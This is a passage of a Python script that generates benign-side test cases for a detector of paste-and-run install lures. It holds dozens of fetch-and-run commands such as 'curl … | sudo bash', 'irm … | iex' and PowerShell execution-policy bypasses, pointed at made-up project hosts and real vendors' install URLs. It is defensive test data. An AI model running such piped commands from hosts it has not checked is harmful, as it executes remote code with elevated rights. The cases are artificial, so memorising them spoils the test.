"""Writes tests/data/cases/benign5.jsonl: long-tail installers copied from their own project's
page, in the shapes the earlier case files left out, and the look-alike lures beside them.

    python tests/data/cases/make_benign5.py

Deterministic: the same file every run. Written for issue 9's benign side by the helper
"benign5" from how projects and vendors write their install pages (READMEs, docs sites, package
registries' pages, release pages, vendors' repository set-up guides), not from any blind set.
Long-tail projects, accounts and companies are made up; real vendors appear where their own
documented command is the point. Lures use reserved names (`*.test`, `*.example`, `*.invalid`)
or look-alikes of the project beside them. Each line is {id, text, expect, technique, platform,
source, target}:

- `b5-org-*`: a project's site and its forge account that spells the project's name with an
  organisation's word (`widget-plugins`, `widget-community`, `widgetorg`, `getwidget`,
  `widget-hq`, `widgetlabs`, `Widget-Plugin-Developers`);
- `b5-co-*`: a company's documentation and the company's forge account, download hosts,
  CDN and object storage, or a product site and its company's repository;
- `b5-reg-*`: package registries' pages (PyPI, npm, crates.io, pkg.go.dev, RubyGems,
  Packagist, Hex, pub.dev) quoting their repository's or site's installer;
- `b5-docs-*`: documentation on Read the Docs, Netlify, Vercel, Cloudflare Pages, GitBook and
  pages sites, for a repository on a forge;
- `b5-sum-*`: release pages whose commands download, verify a checksum or signature, then run;
- `b5-pm-*`: Homebrew taps, Scoop buckets, winget, Chocolatey, apt/dnf/zypper repositories set
  up from the vendor's own guide (keys into /etc/apt/keyrings, `signed-by`);
- `b5-ps-*`: PowerShell installers from the vendor's own site (`irm … | iex`, Scoop's and
  Chocolatey's `Set-ExecutionPolicy -Scope Process Bypass`);
- `b5-sudo-*`: `curl … | sudo bash` from the vendor's own domain;
- `b5-real-*`: real vendors' documented commands from their own pages;
- `b5-lure-*`: what none of those clearings may reach: a typosquat or look-alike host, the
  project's name inside someone else's domain or account with a lure's word, a page quoting an
  unrelated host, the Run box, a hidden window: flagged or malicious.
"""

from __future__ import annotations

from pathlib import Path

from casefile import case

OUT = Path(__file__).with_name("benign5.jsonl")
BENIGN = "none"
LURE = "T1204.004"

Case = dict[str, str]

# Made-up projects: (name, domain).
PROJECTS = [
    ("quokkadb", "quokkadb.io"),
    ("ferrule", "ferrule.dev"),
    ("larkspur", "larkspur.sh"),
    ("tessellate", "tessellate.app"),
    ("brindle", "brindle.cloud"),
    ("halyard", "halyard.org"),
    ("mizzenmast", "mizzenmast.tech"),
    ("gimbalctl", "gimbalctl.run"),
    ("sextant", "sextant.systems"),
    ("ospreymq", "ospreymq.com"),
    ("wickerman", "wickerman.net"),
    ("quillwork", "quillwork.co"),
]
# How an organisation's account spells its project's name.
ACCOUNT_AFFIXES = [
    "{p}-plugins",
    "{p}-dev",
    "{p}-community",
    "{p}org",
    "get{p}",
    "{p}-hq",
    "{p}labs",
    "{p}-contrib",
    "{P}-Plugin-Developers",
    "{p}-io",
    "{p}-project",
    "{p}-team",
    "{p}-official",
    "{p}-extras",
    "{p}-oss",
    "{p}-foundation",
]
# Pages of the project's own site an install command is copied from.
OWN_PAGES = [
    "https://docs.{d}/installation/",
    "https://{d}/",
    "https://www.{d}/download",
    "https://docs.{d}/en/stable/getting-started.html",
    "https://{d}/docs/install/linux",
]


def org_accounts() -> list[Case]:
    out: list[Case] = []
    n = 0

    def add(text: str, source: str, platform: str = "linux") -> None:
        nonlocal n
        n += 1
        out.append(
            case(f"b5-org-{n:03d}", text, "not_flagged", "benign-own-page", platform, source,
                 "terminal")
        )  # fmt: skip

    for i, (name, domain) in enumerate(PROJECTS):
        for j in range(8):
            affix = ACCOUNT_AFFIXES[(i + j * 3) % len(ACCOUNT_AFFIXES)]
            account = affix.format(p=name, P=name.capitalize())
            page = OWN_PAGES[(i + j) % len(OWN_PAGES)].format(d=domain)
            shape = j % 8
            if shape == 0:
                add(
                    f"curl -fsSL https://raw.githubusercontent.com/{account}/installer/main/"
                    f"install.sh | sudo bash",
                    page,
                )
            elif shape == 1:
                add(
                    f"wget -O - https://github.com/{account}/installScript/raw/master/install "
                    f"| sudo bash",
                    page,
                )
            elif shape == 2:
                add(
                    f"curl -LO https://github.com/{account}/{name}/releases/download/v2.3.1/"
                    f"{name}_2.3.1_linux_amd64.tar.gz\ntar -xzf {name}_2.3.1_linux_amd64.tar.gz\n"
                    f"sudo install -m 0755 {name} /usr/local/bin/{name}",
                    page,
                )
            elif shape == 3:
                add(
                    f"irm https://raw.githubusercontent.com/{account}/{name}/main/install.ps1 "
                    f"| iex",
                    page,
                    "windows",
                )
            elif shape == 4:
                add(
                    f"bash <(curl -sSL https://raw.githubusercontent.com/{account}/{name}-"
                    f"scripts/main/setup.sh)",
                    page,
                )
            elif shape == 5:
                add(
                    f'sh -c "$(curl -fsSL https://raw.githubusercontent.com/{account}/{name}/'
                    f'HEAD/install.sh)"',
                    page,
                    "macos",
                )
            elif shape == 6:
                add(
                    f"curl -sSL https://{account.lower()}.github.io/install.sh | sh -s -- "
                    f"--version latest",
                    page,
                )
            else:
                add(
                    f"curl -fsSL -o install.sh https://raw.githubusercontent.com/{account}/"
                    f"{name}/main/scripts/install.sh\nchmod +x install.sh\n./install.sh "
                    f"--prefix /opt/{name}",
                    page,
                )
    # the organisation's own pages (a README, its pages site) naming the project's domain
    for name, domain in PROJECTS[:8]:
        account = f"{name}-community"
        add(
            f"curl -fsSL https://get.{domain}/install.sh | sh",
            f"https://github.com/{account}/{name}-docs#installation",
        )
        add(
            f"iwr -useb https://{domain}/install.ps1 | iex",
            f"https://github.com/{name}org/{name}-windows",
            "windows",
        )
    return out


# Companies that publish their product under the company's name: (company, company domain,
# product).
COMPANIES = [
    ("acmecorp", "acmecorp.com", "widgetctl"),
    ("northwind", "northwind.io", "nwctl"),
    ("bluefinch", "bluefinch.dev", "finchd"),
    ("stoneware", "stoneware.cloud", "kilnctl"),
    ("harborlight", "harborlight.com", "beacon"),
    ("tallgrass", "tallgrass.ai", "prairie"),
    ("copperleaf", "copperleaf.co", "leafsync"),
    ("driftwood", "driftwood.sh", "driftctl"),
]


def companies() -> list[Case]:
    out: list[Case] = []
    n = 0

    def add(text: str, source: str, platform: str = "linux") -> None:
        nonlocal n
        n += 1
        out.append(
            case(f"b5-co-{n:03d}", text, "not_flagged", "benign-own-page", platform, source,
                 "terminal")
        )  # fmt: skip

    for co, dom, prod in COMPANIES:
        docs = f"https://docs.{dom}/{prod}/install"
        add(
            f"curl -fsSL https://github.com/{co}/{prod}/releases/latest/download/"
            f"{prod}-linux-amd64 -o /usr/local/bin/{prod} && chmod +x /usr/local/bin/{prod}",
            docs,
        )
        add(
            f"curl -fsSL https://raw.githubusercontent.com/{co}/{prod}/main/install.sh | bash",
            docs,
        )
        add(
            f"curl -fsSL https://releases.{dom}/{prod}/install.sh | sudo bash",
            f"https://www.{dom}/products/{prod}",
        )
        add(
            f"curl -fsSL https://cdn.{dom}/{prod}/latest/install.sh | sh",
            f"https://{dom}/docs/{prod}/quickstart",
        )
        add(
            f"curl -fsSL https://{co}-releases.s3.amazonaws.com/{prod}/install.sh | bash",
            f"https://docs.{dom}/{prod}/install",
        )
        add(
            f"curl -fsSL https://storage.googleapis.com/{co}-cli/{prod}/install.sh | bash",
            f"https://docs.{dom}/cli/",
        )
        add(
            f'iwr "https://{co}.blob.core.windows.net/releases/{prod}/install.ps1" '
            f"-UseBasicParsing | iex",
            f"https://docs.{dom}/{prod}/windows",
            "windows",
        )
        # the product's own site and its company's repository
        add(
            f"curl -fsSL https://raw.githubusercontent.com/{co}/{prod}/main/install.sh | sh",
            f"https://{prod}.dev/docs/getting-started",
        )
        add(
            f"curl -fsSL https://raw.githubusercontent.com/{co}/{prod}-installer/main/"
            f"install.sh | sh",
            f"https://www.{prod}.dev/",
        )
        add(
            f"irm https://github.com/{co}/{prod}/releases/latest/download/install.ps1 | iex",
            f"https://{prod}.dev/docs/install/windows",
            "windows",
        )
        # the company's domain under another suffix for its downloads
        other = "io" if not dom.endswith(".io") else "dev"
        add(
            f"curl -fsSL https://get.{co}.{other}/{prod} | sh",
            f"https://docs.{dom}/{prod}/install",
        )
    return out


def registries() -> list[Case]:
    out: list[Case] = []
    n = 0

    def add(text: str, source: str, platform: str = "linux") -> None:
        nonlocal n
        n += 1
        out.append(
            case(f"b5-reg-{n:03d}", text, "not_flagged", "benign-own-page", platform, source,
                 "terminal")
        )  # fmt: skip

    for name, domain in PROJECTS:
        owner = f"{name}-hq" if len(name) % 2 else name
        add(
            f"curl -LsSf https://raw.githubusercontent.com/{owner}/{name}/main/install.sh | sh",
            f"https://pypi.org/project/{name}/",
        )
        add(
            f"curl -fsSL https://{domain}/install.sh | bash",
            f"https://www.npmjs.com/package/{name}",
        )
        add(
            f"curl --proto '=https' --tlsv1.2 -LsSf https://github.com/{owner}/{name}/releases/"
            f"latest/download/{name}-installer.sh | sh",
            f"https://crates.io/crates/{name}",
        )
        add(
            f"curl -sSfL https://raw.githubusercontent.com/{owner}/{name}/main/install.sh | "
            f"sh -s -- -b $(go env GOPATH)/bin",
            f"https://pkg.go.dev/github.com/{owner}/{name}",
        )
        add(
            f'powershell -ExecutionPolicy ByPass -c "irm https://github.com/{owner}/{name}/'
            f'releases/latest/download/{name}-installer.ps1 | iex"',
            f"https://pypi.org/project/{name}/",
            "windows",
        )
    # scoped packages, other registries
    add(
        "curl -fsSL https://raw.githubusercontent.com/quokkadb/cli/main/install.sh | bash",
        "https://www.npmjs.com/package/@quokkadb/cli",
    )
    add(
        "curl -fsSL https://halyard.org/install.sh | sh",
        "https://rubygems.org/gems/halyard",
    )
    add(
        "curl -sS https://raw.githubusercontent.com/sextant/sextant/main/installer | php",
        "https://packagist.org/packages/sextant/sextant",
    )
    add(
        "curl -fsSL https://raw.githubusercontent.com/ferrule/ferrule/main/install.sh | sh",
        "https://hex.pm/packages/ferrule",
    )
    add(
        "curl -fsSL https://raw.githubusercontent.com/brindle/brindle/main/install.sh | bash",
        "https://pub.dev/packages/brindle",
    )
    add(
        "curl -sSL https://larkspur.sh/install-larkspur.py | python3 -",
        "https://pypi.org/project/larkspur/",
    )
    add(
        "curl -fsSL https://raw.githubusercontent.com/gimbalctl/homebrew-tap/main/install.sh "
        "| bash",
        "https://formulae.brew.sh/formula/gimbalctl",
        "macos",
    )
    return out


def docs_hosts() -> list[Case]:
    out: list[Case] = []
    n = 0

    def add(text: str, source: str, platform: str = "linux") -> None:
        nonlocal n
        n += 1
        out.append(
            case(f"b5-docs-{n:03d}", text, "not_flagged", "benign-own-page", platform, source,
                 "terminal")
        )  # fmt: skip

    for name, _domain in PROJECTS[:10]:
        owner = f"{name}-dev" if len(name) % 3 == 0 else name
        add(
            f"curl -fsSL https://raw.githubusercontent.com/{owner}/{name}/main/install.sh | sh",
            f"https://{name}.readthedocs.io/en/latest/installation.html",
        )
        add(
            f"curl -L https://github.com/{owner}/{name}/releases/latest/download/{name}-"
            f"x86_64-unknown-linux-musl.tar.gz | tar xz -C ~/.local/bin",
            f"https://{name}-docs.netlify.app/guide/install",
        )
        add(
            f"curl -fsSL https://raw.githubusercontent.com/{owner}/{name}/HEAD/install.sh | bash",
            f"https://{name}.vercel.app/docs/installation",
            "macos",
        )
        add(
            f"irm https://raw.githubusercontent.com/{owner}/{name}/main/install.ps1 | iex",
            f"https://{name}.pages.dev/install/",
            "windows",
        )
    for name, _domain in PROJECTS[:6]:
        add(
            f"curl -fsSL https://raw.githubusercontent.com/{name}/{name}/main/install.sh | sh",
            f"https://{name}.gitbook.io/docs/getting-started/install",
        )
        add(
            f"curl -fsSL https://{name}.github.io/{name}/install.sh | bash",
            f"https://{name}.github.io/{name}/docs/",
        )
    return out


def checksums() -> list[Case]:
    out: list[Case] = []
    n = 0

    def add(text: str, source: str, platform: str = "linux") -> None:
        nonlocal n
        n += 1
        out.append(
            case(f"b5-sum-{n:03d}", text, "not_flagged", "benign-own-page", platform, source,
                 "terminal")
        )  # fmt: skip

    for name, domain in PROJECTS:
        rel = f"https://github.com/{name}/{name}/releases/download/v1.8.0"
        add(
            f"curl -LO {rel}/{name}_1.8.0_linux_amd64.tar.gz\ncurl -LO {rel}/checksums.txt\n"
            f"sha256sum --ignore-missing -c checksums.txt\ntar -xzf {name}_1.8.0_linux_amd64."
            f"tar.gz\nsudo mv {name} /usr/local/bin/",
            f"https://github.com/{name}/{name}/releases/tag/v1.8.0",
        )
        add(
            f"curl -fsSLO https://dl.{domain}/v1.8.0/{name}-linux-amd64\n"
            f"curl -fsSLO https://dl.{domain}/v1.8.0/{name}-linux-amd64.sha256\n"
            f"sha256sum -c {name}-linux-amd64.sha256 && chmod +x {name}-linux-amd64 && "
            f"./{name}-linux-amd64 install",
            f"https://docs.{domain}/install/binary",
        )
        add(
            f'$u = "{rel}/{name}-windows-amd64.zip"\n'
            f'Invoke-WebRequest $u -OutFile "$env:TEMP\\{name}.zip"\n'
            f'$h = (Get-FileHash "$env:TEMP\\{name}.zip" -Algorithm SHA256).Hash\n'
            f'if ($h -ne "3F2A9C1B7E5D4A6F8B0C2E1D3A5B7C9E0F1A2B3C4D5E6F7A8B9C0D1E2F3A4B5C") '
            f'{{ throw "checksum mismatch" }}\n'
            f'Expand-Archive "$env:TEMP\\{name}.zip" "$env:LOCALAPPDATA\\{name}" -Force\n'
            f'& "$env:LOCALAPPDATA\\{name}\\{name}.exe" --version',
            f"https://github.com/{name}/{name}/releases/tag/v1.8.0",
            "windows",
        )
    for name, domain in PROJECTS[:6]:
        add(
            f"curl -fsSL https://{domain}/install.sh -o install.sh\n"
            f"curl -fsSL https://{domain}/install.sh.asc -o install.sh.asc\n"
            f"gpg --verify install.sh.asc install.sh && sudo bash install.sh",
            f"https://{domain}/docs/install",
        )
        add(
            f"cosign verify-blob --certificate-identity-regexp 'https://github.com/{name}/' "
            f"--certificate-oidc-issuer https://token.actions.githubusercontent.com "
            f"--bundle {name}.tar.gz.bundle {name}.tar.gz && tar -xzf {name}.tar.gz && "
            f"./{name} --version",
            f"https://docs.{domain}/security/verify-releases",
        )
    return out


def package_managers() -> list[Case]:
    out: list[Case] = []
    n = 0

    def add(text: str, source: str, platform: str = "linux") -> None:
        nonlocal n
        n += 1
        out.append(
            case(f"b5-pm-{n:03d}", text, "not_flagged", "benign-own-page", platform, source,
                 "terminal")
        )  # fmt: skip

    for name, domain in PROJECTS:
        add(
            f"brew tap {name}/tap && brew install {name}/tap/{name}",
            f"https://github.com/{name}/{name}#homebrew",
            "macos",
        )
        add(
            f"scoop bucket add {name} https://github.com/{name}/scoop-bucket\n"
            f"scoop install {name}/{name}",
            f"https://{domain}/docs/install/windows",
            "windows",
        )
        add(
            f"winget install --id {name.capitalize()}.{name.capitalize()} -e --source winget",
            f"https://{domain}/download",
            "windows",
        )
        add(f"choco install {name} -y", f"https://docs.{domain}/install/chocolatey", "windows")
        add(
            "sudo install -m 0755 -d /etc/apt/keyrings\n"
            f"curl -fsSL https://apt.{domain}/gpg.key | sudo gpg --dearmor -o "
            f"/etc/apt/keyrings/{name}.gpg\n"
            f'echo "deb [arch=$(dpkg --print-architecture) signed-by=/etc/apt/keyrings/{name}.gpg]'
            f' https://apt.{domain} stable main" | sudo tee /etc/apt/sources.list.d/{name}.list'
            f"\nsudo apt-get update && sudo apt-get install -y {name}",
            f"https://docs.{domain}/install/debian",
        )
        add(
            f"sudo rpm --import https://rpm.{domain}/RPM-GPG-KEY-{name}\n"
            f"sudo dnf config-manager --add-repo https://rpm.{domain}/{name}.repo\n"
            f"sudo dnf install -y {name}",
            f"https://docs.{domain}/install/fedora",
        )
    # repositories hosted on a package service under the project's account
    add(
        "curl -1sLf 'https://dl.cloudsmith.io/public/quokkadb/stable/setup.deb.sh' | sudo -E bash",
        "https://docs.quokkadb.io/installation/",
    )
    add(
        "curl -s https://packagecloud.io/install/repositories/ferrule/stable/script.deb.sh | "
        "sudo bash",
        "https://ferrule.dev/docs/install",
    )
    add(
        "curl -fsSL https://pkgs.halyard.org/apt/gpg | sudo gpg --dearmor -o "
        "/usr/share/keyrings/halyard-archive-keyring.gpg && echo 'deb [signed-by=/usr/share/"
        "keyrings/halyard-archive-keyring.gpg] https://pkgs.halyard.org/apt/ /' | sudo tee "
        "/etc/apt/sources.list.d/halyard.list > /dev/null",
        "https://halyard.org/docs/install",
    )
    add(
        "sudo zypper addrepo https://download.opensuse.org/repositories/home:/sextant/"
        "openSUSE_Tumbleweed/home:sextant.repo && sudo zypper refresh && sudo zypper install "
        "sextant",
        "https://sextant.systems/docs/install/opensuse",
    )
    add(
        "sudo add-apt-repository ppa:wickerman/stable -y && sudo apt update && sudo apt install "
        "wickerman",
        "https://wickerman.net/download/ubuntu",
    )
    return out


def powershell() -> list[Case]:
    out: list[Case] = []
    n = 0

    def add(text: str, source: str) -> None:
        nonlocal n
        n += 1
        out.append(
            case(f"b5-ps-{n:03d}", text, "not_flagged", "benign-own-page", "windows", source,
                 "terminal")
        )  # fmt: skip

    for _name, domain in PROJECTS:
        add(f"irm https://{domain}/install.ps1 | iex", f"https://{domain}/docs/install")
        add(
            "Set-ExecutionPolicy -ExecutionPolicy Bypass -Scope Process -Force; "
            "[System.Net.ServicePointManager]::SecurityProtocol = "
            "[System.Net.ServicePointManager]::SecurityProtocol -bor 3072; iex ((New-Object "
            f"System.Net.WebClient).DownloadString('https://get.{domain}/install.ps1'))",
            f"https://docs.{domain}/installation/windows",
        )
    for co, dom, prod in COMPANIES[:6]:
        add(
            f'powershell -NoProfile -ExecutionPolicy Bypass -Command "iwr -useb '
            f'https://downloads.{dom}/{prod}/install.ps1 | iex"',
            f"https://docs.{dom}/{prod}/install/windows",
        )
        add(
            f"Set-ExecutionPolicy RemoteSigned -Scope CurrentUser\n"
            f"Invoke-RestMethod -Uri https://raw.githubusercontent.com/{co}/{prod}/main/"
            f"install.ps1 | Invoke-Expression",
            f"https://github.com/{co}/{prod}",
        )
        add(
            f"& ([scriptblock]::Create((irm https://{prod}.dev/install.ps1))) -Version 2.4.0",
            f"https://{prod}.dev/docs/getting-started/windows",
        )
    return out


def sudo_bash() -> list[Case]:
    out: list[Case] = []
    n = 0

    def add(text: str, source: str) -> None:
        nonlocal n
        n += 1
        out.append(
            case(f"b5-sudo-{n:03d}", text, "not_flagged", "benign-own-page", "linux", source,
                 "terminal")
        )  # fmt: skip

    for _name, domain in PROJECTS:
        add(f"curl -fsSL https://{domain}/install.sh | sudo bash", f"https://{domain}/docs/")
        add(
            f"curl -sL https://install.{domain} | sudo -E bash -",
            f"https://docs.{domain}/self-hosting/install",
        )
    return out


# Real vendors' documented commands, from their own pages (outside the trust list where their
# hosts are not on it).
REAL = [
    (
        "https://docs.openmediavault.org/en/stable/installation/on_debian.html",
        "wget -O - https://github.com/OpenMediaVault-Plugin-Developers/installScript/raw/master/"
        "install | sudo bash",
    ),
    (
        "https://docs.datadoghq.com/agent/supported_platforms/linux/",
        'DD_API_KEY=<YOUR_API_KEY> DD_SITE="datadoghq.com" bash -c "$(curl -L '
        'https://install.datadoghq.com/scripts/install_script_agent7.sh)"',
    ),
    (
        "https://docs.newrelic.com/docs/new-relic-solutions/tutorials/new-relic-cli/",
        "curl -Ls https://download.newrelic.com/install/newrelic-cli/scripts/install.sh | bash "
        "&& sudo NEW_RELIC_API_KEY=NRAK-XXXX NEW_RELIC_ACCOUNT_ID=1234567 "
        "/usr/local/bin/newrelic install",
    ),
    (
        "https://docs.crowdsec.net/u/getting_started/installation/linux/",
        "curl -s https://install.crowdsec.net | sudo sh",
    ),
    (
        "https://documentation.wazuh.com/current/quickstart.html",
        "curl -sO https://packages.wazuh.com/4.9/wazuh-install.sh && sudo bash ./wazuh-install.sh"
        " -a",
    ),
    (
        "https://docs.cilium.io/en/stable/gettingstarted/k8s-install-default/",
        "CILIUM_CLI_VERSION=$(curl -s https://raw.githubusercontent.com/cilium/cilium-cli/main/"
        "stable.txt)\nCLI_ARCH=amd64\ncurl -L --fail --remote-name-all https://github.com/cilium/"
        "cilium-cli/releases/download/${CILIUM_CLI_VERSION}/cilium-linux-${CLI_ARCH}.tar.gz{,"
        ".sha256sum}\nsha256sum --check cilium-linux-${CLI_ARCH}.tar.gz.sha256sum\nsudo tar "
        "xzvfC cilium-linux-${CLI_ARCH}.tar.gz /usr/local/bin",
    ),
    (
        "https://argo-cd.readthedocs.io/en/stable/cli_installation/",
        "curl -sSL -o argocd-linux-amd64 https://github.com/argoproj/argo-cd/releases/latest/"
        "download/argocd-linux-amd64\nsudo install -m 555 argocd-linux-amd64 "
        "/usr/local/bin/argocd",
    ),
    (
        "https://trivy.dev/latest/getting-started/installation/",
        "curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh |"
        " sudo sh -s -- -b /usr/local/bin v0.57.1",
    ),
    (
        "https://oss.anchore.com/docs/installation/syft/",
        "curl -sSfL https://raw.githubusercontent.com/anchore/syft/main/install.sh | sh -s -- -b"
        " /usr/local/bin",
    ),
    (
        "https://goreleaser.com/install/",
        "curl -sfL https://goreleaser.com/static/run | bash -s -- check",
    ),
    (
        "https://docs.localstack.cloud/getting-started/installation/",
        "curl --output localstack-cli-4.0.0-linux-amd64-onefile.tar.gz --location https://github"
        ".com/localstack/localstack-cli/releases/download/v4.0.0/localstack-cli-4.0.0-linux-"
        "amd64-onefile.tar.gz\nsudo tar xvzf localstack-cli-4.0.0-linux-*-onefile.tar.gz -C "
        "/usr/local/bin",
    ),
    (
        "https://min.io/docs/minio/linux/index.html",
        "wget https://dl.min.io/server/minio/release/linux-amd64/minio\nchmod +x minio\n"
        "MINIO_ROOT_USER=admin MINIO_ROOT_PASSWORD=password ./minio server /mnt/data --console-"
        'address ":9001"',
    ),
    (
        "https://docs.docker.com/compose/install/standalone/",
        "curl -SL https://github.com/docker/compose/releases/download/v2.30.3/docker-compose-"
        "linux-x86_64 -o /usr/local/bin/docker-compose && chmod +x /usr/local/bin/docker-compose",
    ),
    (
        "https://sw.kovidgoyal.net/kitty/binary/",
        "curl -L https://sw.kovidgoyal.net/kitty/installer.sh | sh /dev/stdin",
    ),
    (
        "https://just.systems/man/en/pre-built-binaries.html",
        "curl --proto '=https' --tlsv1.2 -sSf https://just.systems/install.sh | bash -s -- --to "
        "~/bin",
    ),
    (
        "https://opentofu.org/docs/intro/install/deb/",
        "curl --proto '=https' --tlsv1.2 -fsSL https://get.opentofu.org/install-opentofu.sh -o "
        "install-opentofu.sh\nchmod +x install-opentofu.sh\n./install-opentofu.sh --install-"
        "method deb\nrm -f install-opentofu.sh",
    ),
    (
        "https://docs.fluentbit.io/manual/installation/linux/ubuntu",
        "curl https://raw.githubusercontent.com/fluent/fluent-bit/master/install.sh | sh",
    ),
    (
        "https://mamba.readthedocs.io/en/latest/installation/micromamba-installation.html",
        '"${SHELL}" <(curl -L micro.mamba.pm/install.sh)',
    ),
    (
        "https://docs.nvidia.com/datacenter/cloud-native/container-toolkit/latest/"
        "install-guide.html",
        "curl -fsSL https://nvidia.github.io/libnvidia-container/gpgkey | sudo gpg --dearmor -o "
        "/usr/share/keyrings/nvidia-container-toolkit-keyring.gpg \\\n  && curl -s -L "
        "https://nvidia.github.io/libnvidia-container/stable/deb/nvidia-container-toolkit.list |"
        " \\\n    sed 's#deb https://#deb [signed-by=/usr/share/keyrings/nvidia-container-"
        "toolkit-keyring.gpg] https://#g' | \\\n    sudo tee /etc/apt/sources.list.d/nvidia-"
        "container-toolkit.list",
    ),
    (
        "https://velero.io/docs/main/basic-install/",
        "curl -fsSL -o velero.tar.gz https://github.com/vmware-tanzu/velero/releases/download/"
        "v1.15.0/velero-v1.15.0-linux-amd64.tar.gz && tar -xzf velero.tar.gz && sudo mv "
        "velero-v1.15.0-linux-amd64/velero /usr/local/bin/",
    ),
    (
        "https://docs.snyk.io/snyk-cli/install-or-update-the-snyk-cli",
        "curl --compressed https://downloads.snyk.io/cli/stable/snyk-linux -o snyk\nchmod +x "
        "./snyk\nmv ./snyk /usr/local/bin/",
    ),
    (
        "https://docs.gitea.com/installation/install-from-binary",
        "wget -O gitea https://dl.gitea.com/gitea/1.22.3/gitea-1.22.3-linux-amd64\nchmod +x gitea",
    ),
    (
        "https://developer.1password.com/docs/cli/get-started/",
        "curl -sS https://downloads.1password.com/linux/keys/1password.asc | sudo gpg --dearmor "
        "--output /usr/share/keyrings/1password-archive-keyring.gpg",
    ),
    (
        "https://www.influxdata.com/downloads/",
        "curl --silent --location -O https://repos.influxdata.com/influxdata-archive.key\n"
        'echo "943666881a1b8d9b849b74caebf02d3465d6beb716510d86a39f6c8e8dac7515  influxdata-'
        'archive.key" | sha256sum -c - && cat influxdata-archive.key | gpg --dearmor | sudo tee'
        " /etc/apt/trusted.gpg.d/influxdata-archive.gpg > /dev/null",
    ),
    (
        "https://docs.sigstore.dev/cosign/system_config/installation/",
        "LATEST_VERSION=$(curl https://api.github.com/repos/sigstore/cosign/releases/latest | "
        'grep tag_name | cut -d : -f2 | tr -d "v\\", ")\ncurl -O -L "https://github.com/'
        'sigstore/cosign/releases/latest/download/cosign_${LATEST_VERSION}_amd64.deb"\nsudo '
        "dpkg -i cosign_${LATEST_VERSION}_amd64.deb",
    ),
    (
        "https://docs.k0sproject.io/stable/install/",
        "curl --proto '=https' --tlsv1.2 -sSf https://get.k0s.sh | sudo sh",
    ),
    (
        "https://docs.metasploit.com/docs/using-metasploit/getting-started/nightly-installers.html",
        "curl https://raw.githubusercontent.com/rapid7/metasploit-omnibus/master/config/templates/"
        "metasploit-framework-wrappers/msfupdate.erb > msfinstall && chmod 755 msfinstall && "
        "./msfinstall",
    ),
    (
        "https://grafana.com/docs/k6/latest/set-up/install-k6/",
        "curl -L https://github.com/grafana/k6/releases/download/v0.55.0/k6-v0.55.0-linux-amd64"
        ".tar.gz | tar xz && sudo mv k6-v0.55.0-linux-amd64/k6 /usr/local/bin/",
    ),
    (
        "https://yazi-rs.github.io/docs/installation",
        "curl -LO https://github.com/sxyazi/yazi/releases/latest/download/yazi-x86_64-unknown-"
        "linux-gnu.zip && unzip yazi-x86_64-unknown-linux-gnu.zip",
    ),
]


# Vendors whose documentation is on their name under another suffix than the installer host
# the trust list knows them by, or whose name is known only as a forge account.
REAL += [
    (
        "https://docs.temporal.io/cli#install",
        "curl -fsSL https://raw.githubusercontent.com/temporalio/cli/main/install.sh | sh",
    ),
    (
        "https://supabase.com/docs/guides/local-development/cli/getting-started",
        "curl -fsSL https://github.com/supabase/cli/releases/latest/download/supabase_linux_amd64"
        ".tar.gz | tar -xz -C /tmp && sudo mv /tmp/supabase /usr/local/bin/",
    ),
    (
        "https://developers.openai.com/codex/cli/",
        "curl -fsSL https://github.com/openai/codex/releases/latest/download/codex-x86_64-"
        "unknown-linux-musl.tar.gz | tar -xz && sudo mv codex-x86_64-unknown-linux-musl "
        "/usr/local/bin/codex",
    ),
    (
        "https://grafana.net/docs/agent/install/",
        "curl -fsSL https://raw.githubusercontent.com/grafana/agent/main/production/install.sh | "
        "sudo bash",
    ),
]


def real() -> list[Case]:
    return [
        case(f"b5-real-{i:03d}", text, "not_flagged", "benign-own-page", "linux", page,
             "terminal")
        for i, (page, text) in enumerate(REAL, 1)
    ]  # fmt: skip


def more_shapes() -> list[Case]:
    """A repository of one part of the project linking the project's site, installers that
    save then start, macOS packages, version lookups, self-hosted forges, buckets and tenant
    hosts named after the product, registries and stores."""
    out: list[Case] = []
    n = 0

    def add(text: str, source: str, platform: str = "linux") -> None:
        nonlocal n
        n += 1
        out.append(
            case(f"b5-more-{n:03d}", text, "not_flagged", "benign-own-page", platform, source,
                 "terminal")
        )  # fmt: skip

    for i, (name, domain) in enumerate(PROJECTS):
        co = COMPANIES[i % len(COMPANIES)][0]
        part = ("cli", "installer", "agent", "desktop", "ci-agent", "releases")[i % 6]
        add(
            f"curl -fsSL https://{domain}/install.sh | sh", f"https://github.com/{co}/{name}-{part}"
        )
        add(
            f"curl -fsSL https://install.{domain} | bash",
            f"https://github.com/{co}/{name}-{part}#installation",
        )
        add(
            f"Invoke-WebRequest -Uri https://github.com/{co}/{name}/releases/download/v1.2.0/"
            f"{name}-setup.exe -OutFile $env:TEMP\\{name}-setup.exe; Start-Process "
            f"$env:TEMP\\{name}-setup.exe -Wait",
            f"https://github.com/{co}/{name}/releases/tag/v1.2.0",
            "windows",
        )
        add(
            f"msiexec /i https://downloads.{domain}/windows/{name}-x64.msi /qn",
            f"https://docs.{domain}/install/windows",
            "windows",
        )
        add(
            f"Start-BitsTransfer -Source https://downloads.{domain}/win/{name}-setup.exe "
            f"-Destination $env:TEMP\\{name}-setup.exe; & $env:TEMP\\{name}-setup.exe /S",
            f"https://{domain}/download/windows",
            "windows",
        )
        add(
            f"curl -LO https://github.com/{co}/{name}/releases/download/v1.2.0/{name}.pkg && "
            f"sudo installer -pkg {name}.pkg -target /",
            f"https://github.com/{co}/{name}/releases/tag/v1.2.0",
            "macos",
        )
        add(
            f"VERSION=$(curl -s https://api.github.com/repos/{co}/{name}/releases/latest | "
            f"grep tag_name | cut -d '\"' -f 4)\ncurl -LO https://github.com/{co}/{name}/"
            f"releases/download/${{VERSION}}/{name}_linux_amd64.deb\nsudo dpkg -i "
            f"{name}_linux_amd64.deb",
            f"https://github.com/{co}/{name}",
        )
        add(
            f'curl -L "https://github.com/{co}/{name}/releases/latest/download/{name}-'
            f'$(uname -s)-$(uname -m)" -o /usr/local/bin/{name} && chmod +x /usr/local/bin/{name}',
            f"https://github.com/{co}/{name}#install",
        )
        # tenant hosts and buckets named after the product, from its own site
        tenant = ("pages.dev", "netlify.app", "vercel.app", "b-cdn.net", "web.app", "fly.dev")[
            i % 6
        ]
        add(
            f"curl -fsSL https://{name}.{tenant}/install.sh | bash",
            f"https://docs.{domain}/installation/",
        )
        add(
            f"curl -fsSL https://{name}releases.blob.core.windows.net/cli/install.sh | bash",
            f"https://{domain}/docs/install",
        )
        add(
